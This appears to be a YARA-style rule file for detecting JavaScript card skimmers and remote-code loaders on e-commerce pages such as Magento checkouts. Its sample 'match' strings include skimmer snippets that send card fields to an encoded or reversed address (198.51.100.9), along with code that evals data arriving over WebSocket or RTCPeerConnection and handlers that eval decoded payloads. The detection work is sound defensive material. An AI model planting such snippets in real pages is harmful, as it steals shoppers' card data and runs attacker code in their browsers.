// Skimmers in scripts and pages whose shape takes more than literals to tell, written from how they work.

rule js_card_fields_to_decoded_host {
  meta:
    description = "names card fields and sends to an address that it decodes"
    needs = "cc_number|cc_cid|cc-number|cardnumber|card-number|card_number|cc_exp_month|cvv2"
    match = "document.querySelector('[name=\"payment[cc_number]\"]').onblur = function () { (new Image).src = atob('Ly8xOTguNTEuMTAwLjkv') + btoa(this.value) }"
    match = "var n = 'cc_cid'; navigator.sendBeacon( String.fromCharCode(47,47,120), collect(n));"
    match = "let x = new XMLHttpRequest; x.open('POST', window.atob(u)); x.send(form['cardnumber'].value)"
    pass = "form['payment[cc_number]'].value = ''; image.src = decodeURIComponent(url); fetch('/rest/V1/guest-carts');"
    pass = "logo.src = atob(encoded);"
  strings:
    $card = /\b(cc_number|cc_cid|cc-number|cardnumber|card-number|card_number|cc_exp_month|cvv2)\b/ nocase
    $send = /(new\s+WebSocket|\bfetch|\bsendBeacon|\.src\s*=|\.open\s*\(\s*['"](POST|GET)['"]\s*,)\s*\(?\s*(window\s*[.\[]['"]?)?(atob|String\.fromCharCode|unescape)\b/
  condition:
    all of them
}

rule js_card_fields_to_reversed_host {
  meta:
    description = "names card fields and turns round an address to send to"
    needs = "cc_number|cc_cid|cc-number|cardnumber|card-number|card_number|cc_exp_month|cvv2"
    match = "fetch('/9.001.15.891//'.split('').reverse().join(''), {method: 'POST', body: q('#cc_number').value})"
    pass = "var w = word.split('').reverse().join(''); fetch('/rest/V1/carts/mine'); label('cc_number');"
  strings:
    $card = /\b(cc_number|cc_cid|cc-number|cardnumber|card-number|card_number|cc_exp_month|cvv2)\b/ nocase
    $turned = /['"][^'"\s]{6,120}\/\/?(:s?(ptth|sw))?['"]\s*\.\s*split\(\s*['"]{2}\s*\)\s*\.\s*reverse\(\s*\)\s*\.\s*join\(/
    $send = /new\s+WebSocket|\bfetch\s*\(|\bsendBeacon\s*\(|XMLHttpRequest|new\s+Image/
  condition:
    all of them
}

rule js_runs_what_a_channel_tells {
  meta:
    description = "opens a socket or a data channel and runs what comes over it"
    needs = "websocket|rtcpeerconnection"
    match = "const s = new WebSocket('wss://198.51.100.9/'); s.onmessage = function (m) { new Function(m.data)() }"
    match = "p = new RTCPeerConnection(c); d.addEventListener('message', e => { (0, eval)(atob(e.data)) })"
    pass = "const s = new WebSocket('wss://chat.example.com/'); s.onmessage = e => show(JSON.parse(e.data));"
    pass = "self.onmessage = function (e) { eval(e.data) }"
  strings:
    $channel = /new\s+(WebSocket|(webkit)?RTCPeerConnection)\b/
    $run = /(\bonmessage\s*=|addEventListener\s*\(\s*['"]message['"])[^;]{0,120}\b(eval|Function)\s*\)?\s*\(\s*(atob\s*\(\s*)?\w{1,20}\.data\b/
  condition:
    all of them
}

rule js_decoded_in_handler {
  meta:
    description = "a tag whose handler runs what it decodes"
    needs = "atob"
    match = "<img src=\"/a.png\" data-x=\"YWxlcnQoMSk=\" onload=\"eval(atob(this.dataset.x))\">"
    match = "<svg onload='setTimeout(window.atob(\"eA==\"))'>"
    pass = "<img src=\"/a.png\" onload=\"this.dataset.text = atob(this.dataset.x)\">"
  strings:
    $handler = /\son(load|error|focus|mouseover|animationstart|toggle)\s*=\s*["']?[^"'>]{0,80}(eval|Function|setTimeout|setInterval)\s*\(\s*(window\.)?atob\s*\(/ nocase
  condition:
    $handler
}

rule js_obfuscated_with_card_fields {
  meta:
    description = "obfuscated code that names the fields of Magento's own card form and sends"
    needs = "cc_number|cc_cid|cc_exp_month|payment[cc_"
    match = "var _0x1a2b=['cc_number','payment[cc_cid]'];function _0x3c4d(_0x5e6f){return _0x1a2b[_0x5e6f]}_0x11aa(_0x22bb,_0x33cc,_0x44dd,_0x55ee,_0x66ff,_0x7711,_0x8822,_0x9933,_0xaa44,_0xbb55,_0xcc66,_0xdd77,_0xee88,_0xff99,_0x1010);navigator['sendBeacon'](_0x3c4d(0x0),_0x5e6f);"
    pass = "var _0x1a2b = 1, cc_number = 2; fetch('/rest/V1/carts/mine');"
  strings:
    $name = /\b_0x[0-9a-f]{4,6}\b/
    $card = /\b(cc_number|cc_cid|cc_exp_month)\b|payment\[cc_/
    $send = /WebSocket|sendBeacon|XMLHttpRequest|new\s+Image|\bfetch\b/
  condition:
    #name > 20 and $card and $send
}
